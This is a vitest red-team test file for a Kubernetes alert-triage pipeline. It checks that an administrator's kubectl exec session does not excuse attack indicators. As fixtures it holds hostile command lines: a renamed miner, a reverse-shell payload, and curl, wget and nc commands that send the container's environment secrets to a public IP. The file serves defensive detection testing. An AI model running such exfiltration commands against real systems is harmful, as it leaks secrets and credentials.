/**
 * Red-team traps for what a person's real `kubectl exec` session excuses. The session is a strong benign story for
 * whatever it is tied to, so everything typed in it — and everything an intruder holding that person's credentials
 * types — was "troubleshooting by a person" unless an attack indicator was strong enough to win on its own:
 * - an endpoint sensor's detection name that names a miner or a reverse shell is a medium indicator (its process
 *   facts are not in the indicator lists: a renamed miner, a python payload), and a strong story outweighed it;
 * - the container's environment (its Secret values) posted to a public address with curl, or env piped into nc,
 *   matched no indicator at all.
 * Fixes: no benign context outweighs an attack indicator (only a policy exception naming that very detection title
 * may, see redteam3-policy-trust); the environment sent over the network is an indicator (environment-exfiltration).
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import type { ExecSession } from '../../../src/cluster/model.js';
import type { ProcessInfo } from '../../../src/alerts/model.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const N = 'node-a';
const shim = { name: 'containerd-shim-runc-v2', commandLine: '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 0123' };
const bash = { name: 'bash', commandLine: 'bash' };
const web = pod('web-7d-abcde', { namespace: 'shop', node: N, ip: '10.1.0.40', owner: { kind: 'ReplicaSet', name: 'web-7d' }, containers: [{ name: 'web', image: 'shop/web:3.1', command: ['/app/web', '--listen=:8080'] }] });
const T0 = '2026-11-20T09:00:00.000Z';
const at = (s: number) => new Date(Date.parse(T0) + s * 1000).toISOString();
const dana: ExecSession = {
  kind: 'exec',
  user: 'dana@example.com',
  groups: ['oidc:devs', 'system:authenticated'],
  sourceIps: ['192.0.2.88'],
  userAgent: 'kubectl/v1.30.1 (linux/amd64) kubernetes/abc',
  namespace: 'shop',
  pod: web.metadata.name,
  container: 'web',
  command: ['bash'],
  tty: true,
  start: at(0),
  end: at(600),
  code: 101,
};
const index = indexOf([node(N, '10.0.1.11'), owner('ReplicaSet', 'web-7d', 'shop'), web], [dana]);
const typed = (title: string, process: ProcessInfo) =>
  triageAlert(alert({ host: N, time: at(60), title, container: { id: containerIdOf(web), name: 'web', pod: web.metadata.name, namespace: 'shop' }, process: { tty: true, ...process }, ancestors: [bash, shim] }), { index }).verdict;

describe("redteam4 admin-activity: a person's exec session does not excuse an attack typed in it", () => {
  it('trap: a renamed miner the EDR names as cryptocurrency mining stays genuine', () => {
    const v = typed('Cryptocurrency miner detected', { name: 'kworker', path: '/usr/local/bin/kworker', commandLine: '/usr/local/bin/kworker -o 198.51.100.7:443 -u 4AbCdEf' });
    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
    // the session is still told, for the analyst, after the indicator
    expect(v.reasons.some((r) => r.rule === 'admin-activity' && r.direction === 'benign')).toBe(true);
  });
  it('trap: a python payload the EDR names as a reverse shell stays genuine', () => {
    expect(typed('Reverse shell', { name: 'python3', path: '/usr/bin/python3', commandLine: 'python3 /app/.cache/x.py' }).label).toBe('genuine');
  });
  it("trap: the container's environment posted to a public address stays genuine", () => {
    expect(typed('Suspicious curl', { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -s -d @/proc/self/environ http://198.51.100.7/c' })).toMatchObject({ label: 'genuine', cause: 'attack' });
    expect(typed('Suspicious network tool', { name: 'sh', path: '/bin/sh', commandLine: 'sh -c "env | base64 -w0 | nc 198.51.100.7 80"' }).label).toBe('genuine');
    expect(typed('Suspicious wget', { name: 'wget', path: '/usr/bin/wget', commandLine: 'wget -q --post-file=/proc/1/environ http://198.51.100.7/' }).label).toBe('genuine');
  });
  it('still explained: troubleshooting in the session (reading the config, checking the environment locally, a curl to a Service)', () => {
    expect(typed('Suspicious file read', { name: 'cat', path: '/bin/cat', commandLine: 'cat /app/config.yaml' }).label).toBe('likely-false-positive');
    expect(typed('Environment discovery', { name: 'sh', path: '/bin/sh', commandLine: 'sh -c "env | grep -i db_"' }).label).toBe('likely-false-positive');
    expect(typed('Suspicious curl', { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -s http://orders.shop.svc:8080/healthz' }).label).toBe('likely-false-positive');
  });
});

describe("redteam4 admin-activity: the session's window", () => {
  it('trap (held): a terminal process two minutes after the session ended (60 s of clock skew allowed) is not the session\'s', () => {
    const late = triageAlert(
      alert({ host: N, time: at(600 + 120), title: 'Suspicious process', container: { id: containerIdOf(web), name: 'web', pod: web.metadata.name, namespace: 'shop' }, process: { name: 'cat', path: '/bin/cat', commandLine: 'cat /app/config.yaml', tty: true }, ancestors: [bash, shim] }),
      { index },
    ).verdict;
    expect(late.label).toBe('genuine');
    expect(late.reasons.some((r) => r.rule === 'admin-activity' && r.direction === 'benign')).toBe(false);
  });
});

